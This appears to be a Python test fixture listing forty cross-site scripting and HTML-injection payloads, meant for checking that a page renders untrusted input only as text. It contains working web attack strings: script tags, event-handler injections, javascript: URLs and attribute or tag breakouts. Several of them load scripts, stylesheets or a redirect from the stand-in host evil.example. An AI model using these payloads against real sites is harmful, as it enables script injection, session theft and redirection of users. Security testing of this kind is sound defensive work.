"""Forty texts that would run as script, load something or lead elsewhere if a page took them for anything but text.

Each marks the window (`__x`), opens a dialog or asks for a script when it works. Plain ASCII, at most 100 characters.
"""

PAYLOADS = [
    # elements and their events
    "<script>window.__x=1</script>",
    "<ScRiPt >window.__x=1</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>import('data:text/javascript,window.__x=1')</script>",
    "<img src=x onerror=window.__x=1>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=window.__x=1>",
    "<svg><script>window.__x=1</script></svg>",
    "<svg><animate onbegin=window.__x=1 attributeName=x dur=1s>",
    "<body onload=window.__x=1>",
    "<details open ontoggle=window.__x=1>",
    "<input autofocus onfocus=window.__x=1>",
    "<video><source onerror=window.__x=1></video>",
    "<marquee onstart=window.__x=1>x</marquee>",
    "<iframe srcdoc='<script>parent.__x=1</script>'></iframe>",
    "<iframe src=javascript:parent.__x=1></iframe>",
    "<object data=javascript:window.__x=1></object>",
    "<embed src=data:text/html,<script>parent.__x=1</script>>",
    "<math><mi xlink:href='javascript:window.__x=1'>x</mi></math>",
    "<form action=javascript:window.__x=1><button>x</button></form>",
    # what would change the rest of the page
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<!--<script>window.__x=1</script>",
    # ways out of where a text stands: an attribute, a title, a script, a template, the page's own data
    '"><script>window.__x=1</script>',
    "' onmouseover=window.__x=1 autofocus onfocus=window.__x=1 '",
    "</title><script>window.__x=1</script>",
    "</textarea><script>window.__x=1</script>",
    "</script><script>window.__x=1</script>",
    '"]);window.__x=1;self.__next_f.push([1,"',
    "'-window.__x=1-'",
    "\\u003cscript\\u003ewindow.__x=1\\u003c/script\\u003e",
    "<noscript><p title='</noscript><img src=x onerror=window.__x=1>'>",
    # other languages a page may speak
    "javascript:window.__x=1",
    "[a](javascript:window.__x=1)",
    "{{constructor.constructor('window.__x=1')()}}",
    "${window.__x=1}",
    "$L1",
    '{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=window.__x=1>"}}}',
]
